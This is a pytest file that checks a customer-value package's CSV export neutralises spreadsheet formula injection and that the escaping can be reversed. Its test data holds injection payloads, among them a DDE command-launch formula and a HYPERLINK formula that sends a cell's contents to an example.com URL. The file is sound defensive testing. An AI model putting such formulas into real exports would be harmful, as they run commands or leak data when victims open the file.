"""Text in exports is not run as a formula, numbers stay numbers, and text can be had back."""

import csv

import numpy as np
import pandas as pd
import pytest

import kundenwert as kw
from kundenwert.storage.spreadsheets import harmless, write_csv
from tests.storage import files

FORMULAS = (
    '=cmd|"/C calc"!A0',
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    "\0=1",
    "＝1+1",
    "'=1",
    "-5",
)
PLAIN = ("", "Müller", "a=b", "1-2", "'quoted'", "x\ty", "o'neill", " padded ")
BACK = r"^'(?='*[\s\0\ufeff]*[=+\-@\t\r\n＝＋－＠])"


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_become_text_that_can_be_had_back(text):
    assert harmless(text) == "'" + text
    assert pd.Series([harmless(text)]).str.replace(BACK, "", regex=True)[0] == text


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_stays_as_it_is(text):
    assert harmless(text) == text
    assert pd.Series([text]).str.replace(BACK, "", regex=True)[0] == text


def test_every_text_of_a_table_is_made_harmless_and_numbers_are_not(tmp_path):
    ids = pd.Index(FORMULAS, name="=customer")
    table = pd.DataFrame(
        {
            "-label": pd.Series(FORMULAS, index=ids),
            "object": pd.Series([-1, -2.5, None, "=x"] * 3 + [1, 2], index=ids, dtype=object),
            "category": pd.Categorical(["@a", "b"] * 7),
            "number": -np.arange(14.0),
            "integer": pd.array([-1, None] * 7, dtype="Int64"),
            "date": pd.Timestamp("2024-01-01"),
        },
        index=ids,
    )
    write_csv(table, tmp_path / "table.csv")
    with (tmp_path / "table.csv").open(newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    assert rows[0] == ["'=customer", "'-label", "object", "category", "number", "integer", "date"]
    for text, row in zip(FORMULAS, rows[1:], strict=True):
        assert row[0] == row[1] == "'" + text
    assert [row[2] for row in rows[1:5]] == ["-1", "-2.5", "", "'=x"]
    assert [row[3] for row in rows[1:3]] == ["'@a", "b"]
    assert [float(row[4]) for row in rows[1:]] == (-np.arange(14.0)).tolist()
    assert [row[5] for row in rows[1:3]] == ["-1", ""]
    write_csv(table, tmp_path / "raw.csv", escape=False)
    with (tmp_path / "raw.csv").open(newline="", encoding="utf-8") as file:
        assert [row[0] for row in csv.reader(file)] == ["=customer", *FORMULAS]


def test_levels_of_an_index_are_made_harmless(tmp_path):
    index = pd.MultiIndex.from_product([["=a", "b"], [-1, 2]], names=["@x", "y"])
    write_csv(pd.DataFrame({"z": range(4)}, index=index), tmp_path / "table.csv")
    assert (tmp_path / "table.csv").read_text().split() == ["'@x,y,z", "'=a,-1,0", "'=a,2,1", "b,-1,2", "b,2,3"]


def test_a_plan_is_written_without_formulas_and_read_back(tmp_path):
    plan = files.plan()
    plan.to_csv(tmp_path / "plan.csv")
    with (tmp_path / "plan.csv").open(newline="", encoding="utf-8") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert not [cell for cell in cells if cell[:1] in "=+@\t\r" and cell]
    assert all(float(cell) < 0 for cell in cells if cell.startswith("-"))
    assert "'=voucher" in cells
    read = pd.read_csv(tmp_path / "plan.csv")
    ids = read["customer_id"].str.replace(BACK, "", regex=True)
    assert ids.tolist() == plan.table.index.tolist()
    assert np.array_equal(read["mean"].to_numpy(), plan.table["mean"].to_numpy(), equal_nan=True)
    plan.to_csv(tmp_path / "raw.csv", escape=False)
    assert pd.read_csv(tmp_path / "raw.csv")["customer_id"].tolist() == plan.table.index.tolist()
    with pytest.raises(kw.errors.SpecificationError, match="escape is True or False"):
        plan.to_csv(tmp_path / "raw.csv", escape="no")
